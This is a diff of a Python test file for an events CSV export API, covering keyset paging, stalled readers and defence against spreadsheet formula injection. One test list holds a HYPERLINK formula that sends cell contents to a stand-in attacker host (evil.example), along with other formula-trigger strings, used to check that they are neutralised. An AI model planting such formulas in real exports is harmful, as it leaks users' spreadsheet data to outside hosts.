@@ -1,4 +1,4 @@
-"""`GET /api/events/export`: the list's filters as a CSV file streamed from a server-side cursor."""
+"""`GET /api/events/export`: the list's filters as a CSV file streamed in keyset pages."""
 from __future__ import annotations
 
 import csv
@@ -11,7 +11,7 @@ import sqlalchemy as sa
 from app.extensions import db
 from app.extensions import database
 from app.services.events import EventFilter, iter_events
-from tests.helpers import post_event
+from tests.helpers import post_event, wait_until
 
 UTC = timezone.utc
 DAY0 = datetime(2025, 10, 20, tzinfo=UTC)
@@ -76,7 +76,19 @@ def test_export_refuses_paging_and_bad_filters_with_the_error_envelope(client):
         assert response.get_json()["error"]["field"] == field
 
 
-def test_a_large_export_streams_through_a_server_side_cursor(app, client):
+def idle_in_transaction(app) -> list[str]:
+    """Backends of the test database, other than ours, holding a transaction open while doing nothing."""
+    with app.app_context():
+        states = db.session.execute(sa.text("""
+            SELECT application_name || ' ' || left(query, 60) FROM pg_stat_activity
+            WHERE datname = current_database() AND pid <> pg_backend_pid()
+              AND state LIKE 'idle in transaction%'
+        """)).scalars().all()
+        db.session.rollback()
+    return states
+
+
+def test_a_large_export_streams_in_chunks_without_holding_a_transaction(app, client):
     insert_events(app, 3000)
     response = client.get("/api/events/export?user_id=7", buffered=False)
     try:
@@ -86,16 +98,9 @@ def test_a_large_export_streams_through_a_server_side_cursor(app, client):
         first = next(chunks)
         assert first.startswith(b"id,user_id,action")
         assert len(first) < 100 * 1024, "the first chunk must not hold the whole file"
-        with app.app_context():
-            fetching = db.session.execute(sa.text("""
-                SELECT query FROM pg_stat_activity
-                WHERE datname = current_database() AND pid <> pg_backend_pid() AND query ILIKE 'FETCH FORWARD%'
-            """)).scalars().all()
-            db.session.rollback()
-        assert fetching, "the export should read its rows with FETCH from a declared cursor"
         body = first + b"".join(chunks)
     finally:
-        response.close()  # hands the cursor's connection back even when an assertion failed
+        response.close()
     rows = read_csv(body)
     assert len(rows) == 3000
     times = [row["occurred_at"] for row in rows]
@@ -105,9 +110,50 @@ def test_a_large_export_streams_through_a_server_side_cursor(app, client):
     assert len({row["id"] for row in rows}) == 3000
 
 
+def test_a_client_that_stops_reading_an_export_holds_no_transaction(app, client):
+    """A slow or stalled reader of a big export keeps no backend `idle in transaction` (nor a pooled
+    connection) while its response waits: every page is a short read of its own."""
+    insert_events(app, 3000)
+    response = client.get("/api/events/export?user_id=7", buffered=False)
+    chunks = iter(response.response)
+    try:
+        first = next(chunks)  # then the client stops reading
+        wait_until(lambda: not idle_in_transaction(app), timeout=3,
+                   what="no backend idle in transaction while the export waits for its reader")
+        with app.app_context():
+            assert db.engine.pool.checkedout() == 0, "the paused export must not hold a pooled connection"
+        body = first + b"".join(chunks)  # the reader comes back: the export goes on where it stopped
+    finally:
+        response.close()
+    assert len(read_csv(body)) == 3000
+
+
 def test_iter_events_yields_in_time_order_in_batches(app):
     insert_events(app, 25)
     with app.app_context():
         events = list(iter_events(database(), EventFilter(user_id=7, action="page_view"), batch_size=4))
     assert len(events) == 13
     assert [event.occurred_at for event in events] == sorted(event.occurred_at for event in events)
+
+
+FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")
+
+
+def test_formula_cells_are_neutralised_in_the_api_and_dashboard_exports(client):
+    """A spreadsheet opening either export shows each action as text and evaluates none of them."""
+    for index, action in enumerate((*FORMULAS, "page_view", "a=b", "it's fine")):
+        assert post_event(client, user_id=42, action=action, metadata={"formula": "=1+1"},
+                          occurred_at=f"2025-10-20T10:00:{index:02d}Z").status_code == 201
+    for url in ("/api/events/export?user_id=42", "/events/export?user_id=42"):
+        response = client.get(url)
+        assert response.status_code == 200, url
+        text = response.get_data(as_text=True)
+        rows = read_csv(response.data)
+        assert [row["action"] for row in rows] == [*("'" + action for action in FORMULAS),
+                                                   "page_view", "a=b", "it's fine"], url
+        for line in text.split("\r\n")[1:-1]:
+            cells = next(csv.reader([line]))
+            assert not cells[2].startswith(("=", "+", "-", "@", "\t", "\r")), line
+        # every text cell is quoted, so a separator inside one cannot split it in any spreadsheet
+        assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"' in text
+        assert all(json.loads(row["metadata"]) == {"formula": "=1+1"} for row in rows)
